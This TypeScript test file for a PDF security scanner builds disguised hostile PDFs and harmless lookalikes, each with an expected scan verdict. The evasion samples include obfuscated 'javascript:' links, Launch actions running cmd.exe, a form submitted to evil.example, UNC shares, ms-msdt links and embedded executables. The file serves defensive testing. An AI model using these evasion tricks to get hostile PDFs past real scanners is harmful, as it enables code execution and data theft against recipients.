// PDFs whose forbidden contents are encoded in unusual ways, and harmless PDFs that use the same ways or words.
import { createHash } from 'node:crypto'
import { deflateRawSync, deflateSync } from 'node:zlib'
import type { ScanVerdict } from '../../../src/domain/document/pdf/verdicts.ts'
import { alert, document, packedPdf, stream } from './hostile-pdfs.ts'

/** The script of a bookmark does not run when the PDF is opened: the scan must find it in the objects. */
const bookmark = `/Outlines << /First << /A ${alert} >> >>`
const packed = (dictionary: string, pack: (text: Buffer) => Buffer = deflateSync, other = 'null') =>
  packedPdf(bookmark, '', { dictionary, pack, other })
const link = (action: string, ...others: (string | Buffer)[]) =>
  document('', `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`, ...others)
const to = (target: string) => link(`<< /S /URI /URI ${target} >>`)

const SIZES = '/N 1 /First 4'
const FLATE = '/Filter /FlateDecode'
const OBJ_STM = `/Type /ObjStm ${SIZES}`

const COLUMNS = 8
const rowsOf = (text: Buffer) =>
  Array.from({ length: Math.ceil(text.length / COLUMNS) }, (_, row) =>
    Buffer.concat([text, Buffer.alloc(COLUMNS, ' ')]).subarray(row * COLUMNS, (row + 1) * COLUMNS),
  )

/** Encodes the text as the rows of a PNG, each with the next of the five filters. */
function pngRows(text: Buffer): Buffer {
  const rows = rowsOf(text)
  const coded = rows.map((row, number) => {
    const above = rows[number - 1] ?? Buffer.alloc(COLUMNS)
    const kind = number % 5
    const made = row.map((byte, at) => byte - foretold(kind, row[at - 1] ?? 0, above[at] ?? 0, above[at - 1] ?? 0))
    return Buffer.concat([Buffer.from([kind]), made])
  })
  return deflateSync(Buffer.concat(coded))
}

function foretold(kind: number, left: number, up: number, corner: number): number {
  const nearest = [left, up, corner].sort(
    (one, other) => Math.abs(left + up - corner - one) - Math.abs(left + up - corner - other),
  )
  return [0, left, up, Math.floor((left + up) / 2), nearest[0] ?? 0][kind] ?? 0
}

const tiffRows = (text: Buffer) =>
  deflateSync(Buffer.concat(rowsOf(text).map((row) => row.map((byte, at) => byte - (row[at - 1] ?? 0)))))

const PRETENDED_END = '1 0 %endstream endstream\n'

/** Compresses the text after an uncompressed block with the word `endstream`, a false end. */
function storedEnd(text: Buffer): Buffer {
  const block = Buffer.alloc(5)
  block.writeUInt16LE(PRETENDED_END.length, 1)
  block.writeUInt16LE(0xffff - PRETENDED_END.length, 3)
  const rest = deflateRawSync(text.subarray('1 0 '.length))
  return Buffer.concat([Buffer.from([0x78, 0x9c]), block, Buffer.from(PRETENDED_END), rest, Buffer.alloc(4)])
}

/** Compresses an object that a reader finds by its offset; a reader from the start finds an endless string. */
const shifted = (text: Buffer) => deflateSync(Buffer.concat([Buffer.from('1 1 ('), text.subarray('1 0 '.length)]))

const scrambled = (text: Buffer) =>
  Buffer.concat([createHash('sha512').update(text).digest(), createHash('sha512').update('2').digest()])

const encrypted = (word: string) =>
  Buffer.from(
    packed(`${OBJ_STM}`, scrambled, '<< /Filter /Standard /V 1 /R 2 /P -4 >>')
      .toString('latin1')
      .replace('/Root 1 0 R', `/Root 1 0 R ${word} 6 0 R`),
    'latin1',
  )

const FILE = '<< /Type /Filespec /F (nota.exe) /EF << /F 4 0 R >> >>'
const program = stream('', Buffer.from('MZ'))

const SCRIPT_LINK = '(javascript:alert)'
/** Returns a PDF with a link by `reference` to a script in the object that starts with `beginning`. */
const renumbered = (beginning: string, reference: string) =>
  Buffer.from(
    link(`<< /S /URI /URI ${reference} >>`, SCRIPT_LINK).toString('latin1').replace('4 0 obj', beginning),
    'latin1',
  )
const annotation = (entries: string, ...others: string[]) =>
  document('', `/Annots [<< ${entries} /Rect [0 0 9 9] >>]`, ...others)

/** Each PDF with the way in which it hides its content, and the expected verdict. */
export const DISGUISED_PDFS: readonly (readonly [how: string, verdict: ScanVerdict, bytes: Buffer])[] = [
  // Object streams.
  [
    'rows of a PNG in an object stream',
    'scripted',
    packed(`${OBJ_STM} ${FLATE} /DecodeParms << /Predictor 11 /Columns 8 >>`, pngRows),
  ],
  [
    'rows of a TIFF in an object stream',
    'scripted',
    packed(`${OBJ_STM} ${FLATE} /DecodeParms [<< /Predictor 2 /Columns 8 >>]`, tiffRows),
  ],
  ['a predictor that there is not', 'broken', packed(`${OBJ_STM} ${FLATE} /DecodeParms << /Predictor 7 >>`)],
  ['a predictor elsewhere', 'broken', packed(`${OBJ_STM} ${FLATE} /DecodeParms 6 0 R`, deflateSync, '<< >>')],
  ['the word «stream» in a comment', 'scripted', packed(`${OBJ_STM} % stream\n ${FLATE}`)],
  ['the word «stream» in a text', 'scripted', packed(`${OBJ_STM} /X (stream endstream) ${FLATE}`)],
  ['an object stream without a type', 'scripted', packed(`${SIZES} ${FLATE}`)],
  ['an object stream of another type', 'scripted', packed(`/Type /XObject ${SIZES} ${FLATE}`)],
  [
    'an object stream whose type is elsewhere',
    'scripted',
    packed(`/Type 6 0 R ${SIZES} ${FLATE}`, deflateSync, '/ObjStm'),
  ],
  [
    'the end of a stream in stored data',
    'scripted',
    packed(`/Type /ObjStm /N 1 /First ${PRETENDED_END.length} ${FLATE}`, storedEnd),
  ],
  [
    'two filters behind the word «obj»',
    'broken',
    packed(`/Filter [/ASCIIHexDecode /FlateDecode] % obj\n ${OBJ_STM}`, (text) =>
      Buffer.from(`${deflateSync(text).toString('hex')}>`),
    ),
  ],
  ['two filters under two names', 'broken', packed(`${OBJ_STM} ${FLATE} /F /ASCIIHexDecode`)],
  ['two filters under one name', 'broken', packed(`${OBJ_STM} /Filter /ASCIIHexDecode ${FLATE}`)],
  ['a filter elsewhere', 'broken', packed(`${OBJ_STM} /Filter 6 0 R`, deflateSync, '/FlateDecode')],
  ['a number of objects elsewhere', 'broken', packed(`/N 6 0 R /First 4 ${FLATE}`, deflateSync, '1')],
  ['a dictionary that is no pairs', 'broken', packed(`7 8 ${OBJ_STM} ${FLATE}`)],
  ['objects that are not packed', 'scripted', packed(OBJ_STM, (text) => text)],
  ['an object behind a text without end', 'scripted', packed(`/N 1 /First 4 ${FLATE}`, shifted)],
  // Objects in unexpected places, and their delimiters.
  ['an object inside a text', 'scripted', document('', '', `(3 0 obj << /A ${alert} >>`)],
  ['an object inside a picture', 'scripted', document('', '', stream('', Buffer.from(`7 0 obj%\n<< /A ${alert} >>`)))],
  ['an object behind a bracket that closes another', 'broken', document('', '', `<< /A [ >> >> ] ${alert}`)],
  ['brackets without end', 'broken', document(`/X ${'['.repeat(100_000)}`)],
  ['objects inside of one another', 'broken', document('', '', '1 0 obj ('.repeat(10_000))],
  // Actions.
  ['a comment before what is launched', 'opening', link('<< /S%c\n/Launch /F (cmd.exe) >>')],
  ['NUL before what is launched', 'opening', link('<< /S\0/Launch /F (cmd.exe) >>')],
  ['«Launch» elsewhere, of a link', 'opening', link('<< /S 4 0 R /F (cmd.exe) >>', '/Launch')],
  ['«Launch» elsewhere, at opening', 'opening', document('/OpenAction << /S 4 0 R /F (cmd.exe) >>', '', '/Launch')],
  ['«Launch» elsewhere, in an object stream', 'opening', packedPdf('', ' /Launch')],
  ['a comment before a rendition', 'media', link('<< /S%\n/Rendition /OP 0 /JS (app.alert\\(1\\)) >>')],
  ['a script without its kind', 'scripted', document('/Names << /JavaScript << /Names [(a) << /JS (1) >>] >> >>')],
  ['a comment before a form that is a program', 'form', document('/AcroForm << /XFA %c\n 4 0 R >>', '', program)],
  ['a form that is sent', 'opening', link('<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>')],
  ['data that are fetched', 'form', link('<< /S /ImportData /F (x.fdf) >>')],
  ['a file elsewhere', 'opening', link('<< /S /GoToR /F (x.pdf) /D [0 /Fit] >>')],
  ['a file within', 'opening', link('<< /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>')],
  ['a folder of others', 'opening', link('<< /S /Thread /F (\\\\\\\\evil\\\\share) >>')],
  [
    'a script of a model',
    'scripted',
    document('', '', stream('/Type /3D /Subtype /U3D /OnInstantiate 5 0 R', Buffer.from('U3D'))),
  ],
  ['a link to a script', 'opening', to('(javascript:alert\\(1\\))')],
  ['a link to a script in other letters', 'opening', to('(\\152ava\\\nScript\\072alert)')],
  ['a link to a script in numbers', 'opening', to('<FEFF006A006100760061007300630072006900700074003A00310029>')],
  ['a link to a script behind white space', 'opening', to(`(${' '.repeat(500)}\t\\njavascript:1)`)],
  ['a link to a script elsewhere', 'opening', link('<< /S /URI /URI 4 0 R >>', '(javascript:alert)')],
  ['a link to a file', 'opening', to('(file:///c:/windows/system32/cmd.exe)')],
  ['a link to a folder of others', 'opening', to('(\\\\\\\\server\\\\share)')],
  ['a link to a program’s own scheme', 'opening', to('(ms-msdt:/id)')],
  // References with characters other than digits, and objects whose number readers parse differently.
  ...['+4 0 R', '4. 0 R', '1-4 0 R', '+4 +0 R', '-4 0 R', '.4e1 0 R'].map(
    (reference) =>
      [`a link to a script by ${reference}`, 'opening', link(`<< /S /URI /URI ${reference} >>`, SCRIPT_LINK)] as const,
  ),
  ['a base of links by a sign', 'opening', document('/URI << /Base +4 0 R >>', '', '(javascript:)')],
  ['a folder of others by a sign', 'opening', link('<< /S /GoTo /F +4 0 R >>', '(\\\\\\\\evil\\\\share)')],
  ['a form that is a program by a sign', 'form', document('/AcroForm << /XFA +4 0 R >>', '', program)],
  ['a script of a model by a sign', 'scripted', document('', '', stream('/OnInstantiate +5 0 R', Buffer.from('')))],
  ['a script by a sign', 'scripted', document('/OpenAction << /S 5 0 R /JS +4 0 R >>', '', '(1)', '/JavaScript')],
  ['an attached file by a sign', 'attached', document('/AF [4 0 R]', '', '<< /F (x.exe) /EF +5 0 R >>', '<< >>')],
  ['files that belong to one by a sign', 'attached', document('', '', '<< /F (x.exe) /RF .5 0 R >>')],
  ['an encryption by a sign', 'encrypted', encrypted('/Encrypt +')],
  ['a link to a script behind much white space', 'opening', renumbered(`14${' '.repeat(37)}0 obj`, '14 0 R')],
  ['a link to a script in the middle of a number', 'opening', renumbered('14 0 obj', '4 0 R')],
  ['a link to a script whose number is no whole one', 'opening', renumbered('14.0 0 obj', '14 0 R')],
  // Keys and values that different readers pair differently.
  ['a brace alone before a script', 'scripted', link('<< /X{ /Y /S /JavaScript /Z 1 >>')],
  ['a very long name before a script', 'scripted', link(`<< /${'X'.repeat(200)} /S /JavaScript >>`)],
  ['a bracket alone before a script', 'scripted', link('<< /X ) /Y /S /JavaScript /Z 1 >>')],
  ['a number before an order', 'scripted', link('<< /S /Named 7 /N /Print >>')],
  ['a key without a value before an order', 'scripted', link('<< /S /Named /X >> /N /Print')],
  ['a key without a value before a script', 'scripted', document('', '', '<< /X >> /S /JavaScript /JS (1) >>')],
  ['an object that ends before its order does', 'scripted', packedPdf('', ' << /S /Named /N /Print')],
  // Named actions.
  ['an order elsewhere', 'scripted', link('<< /S /Named /N 4 0 R >>', '/Print')],
  ['an order whose kind is elsewhere', 'scripted', link('<< /N /Print /S 4 0 R >>', '/Named')],
  ['an order before its kind', 'scripted', link('<< /N /Print /S /Named >>')],
  // Types that the standard does not define.
  ['an annotation that nobody knows', 'media', annotation('/Type /Annot /Subtype /Holograma')],
  ['an annotation that nobody knows, without a type', 'media', annotation('/Subtype /Projection')],
  ['an annotation of no page that nobody knows', 'media', document('', '', '<< /Type /Annot /Subtype /Holograma >>')],
  ['an annotation whose kind is elsewhere', 'media', annotation('/Type /Annot /Subtype 4 0 R', '/Holograma')],
  [
    'an annotation that nobody knows, elsewhere',
    'media',
    document('', '/Annots [4 0 R]', '<< /Subtype /Holograma /Rect [0 0 9 9] >>'),
  ],
  // Files outside the PDF.
  ['a stream in a file', 'opening', document('', '', stream('/F (C:\\\\secreto.txt)', Buffer.from('')))],
  ['a stream in a file elsewhere', 'opening', document('', '', stream('/F 5 0 R', Buffer.from('')), '<< /F (x) >>')],
  [
    'a stream on the web, its system elsewhere',
    'opening',
    document('', '', '<< /F << /FS 5 0 R /F (http://evil.example) >> >>', '/URL'),
  ],
  ...['DOS', 'Unix', 'Mac'].map(
    (system) => [`a folder of others of ${system}`, 'opening', document(`/X << /${system} (//evil/share) >>`)] as const,
  ),
  // Embedded files.
  ['a file of a note', 'attached', document('', `/Annots [<< /Subtype /FileAttachment /FS ${FILE} >>]`, program)],
  ['an associated file', 'attached', document(`/AF [${FILE}]`, '', program)],
  [
    'a file of a rich medium',
    'media',
    document(
      '',
      `/Annots [<< /Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a) ${FILE}] >> >> >>]`,
      program,
    ),
  ],
  // Encryption.
  ['a comment before the encryption', 'encrypted', encrypted('/Encrypt%x\n')],
  ['an encryption that is spelt by numbers', 'encrypted', encrypted('/#45ncrypt')],
]

const WORDS = '/S /Launch /JavaScript /EmbeddedFile obj stream endstream << [ ('

export const UNDISGUISED_PDFS: readonly (readonly [what: string, bytes: Buffer])[] = [
  ['that writes of programs', document('', '', `<< /Title (${WORDS}\\() /About (javascript:) >>`)],
  ['that has programs in a comment', document('', '', `null % ${WORDS} ${alert}`)],
  [
    'with N under other keys, and in lists',
    document(
      '',
      '',
      '<< /H /N /Rect [0 0 9 9] /V /N /AS /N /Border [0 0 0] /L [/N /Black] /AP << /N << /N 3 0 R >> >> >>',
    ),
  ],
  ['with an order beside values that are called N and S', link('<< /S /Named /X /N /N /NextPage /Y /S /Sound 1 >>')],
  ['with inks that are called S and as a sound', document('', '', '<< /C [/DeviceN [/S /Sound] /DeviceCMYK] >>')],
  ['with a name after two numbers', document('', '', '<< /X 4 0 R /N /Black /Y [4 0 R /N /Black] >>')],
  [
    'with kinds of everything else',
    document(
      '/PageLabels << /Nums [0 << /S /D >>] >> /OutputIntents [<< /S /GTS_PDFA1 >>] /StructTreeRoot 4 0 R',
      '/Group << /S /Transparency >> /Annots [<< /Subtype /Link /Rect [0 0 9 9] /BS << /S /S >> /BE << /S /C >> >>]',
      '<< /K << /S /Parrafo /A 5 0 R /C /Next >> /RoleMap << /Parrafo /P >> >>',
      '<< /O /Layout /TextAlign /Start /Next 4 0 R >>',
    ),
  ],
  [
    'with a bookmark after another',
    document('/Outlines << /First << /Title (1) /Next 4 0 R >> >>', '', '<< /Title (2) >>'),
  ],
  ['with a picture called JS', document('', '/Resources << /XObject << /JS 4 0 R >> >>', stream('', Buffer.from('q')))],
  ['with flags and sizes', document('', '', '<< /F 4 /A -0.5 /Next 1.5 /S /Otra >>', '<< /S /Otra >>', '(tg://x)')],
  [
    'with every kind of annotation that is paper',
    document(
      '',
      `/Annots [${['Text', 'FreeText', 'StrikeOut', 'Stamp', 'Redact'].map((kind) => `<< /Subtype /${kind} >>`).join('')}]`,
    ),
  ],
  ['with a transition called by a letter', document('', '/Trans << /S /R >>')],
  ['with a stream of N and no objects', document('', '', stream('/N 3 /Alternate /DeviceRGB', Buffer.from('(')))],
  ['with usage rights', document('', '', '<< /EF [/Create /Delete] /Annots [/Import] >>')],
  ['without what it names', document('/AcroForm << /XFA null >>', '', '<< /Encrypt null >>')],
  [
    'with rows of a PNG',
    packedPdf('', '', { dictionary: `${OBJ_STM} ${FLATE} /DecodeParms << /Predictor 12 /Columns 8 >>`, pack: pngRows }),
  ],
  ['with objects that are not packed', packedPdf('', '', { dictionary: OBJ_STM, pack: (text) => text })],
  [
    'with a title elsewhere, and a link elsewhere',
    link('<< /S /URI /URI 4 0 R >>', '(https://sri.gob.ec)', '(Nota: nada)'),
  ],
  ...[
    '(https://sri.gob.ec/?a=javascript:1)',
    '(HTTP://sri.gob.ec)',
    '(mailto:ana@ejemplo.ec)',
    '(tel:+593 2 222)',
    '(www.sri.gob.ec)',
    '(ejemplo.ec:8080/a)',
    '(#pagina=2)',
    '()',
  ].map((target) => [`with a link to ${target}`, to(target)] as const),
]
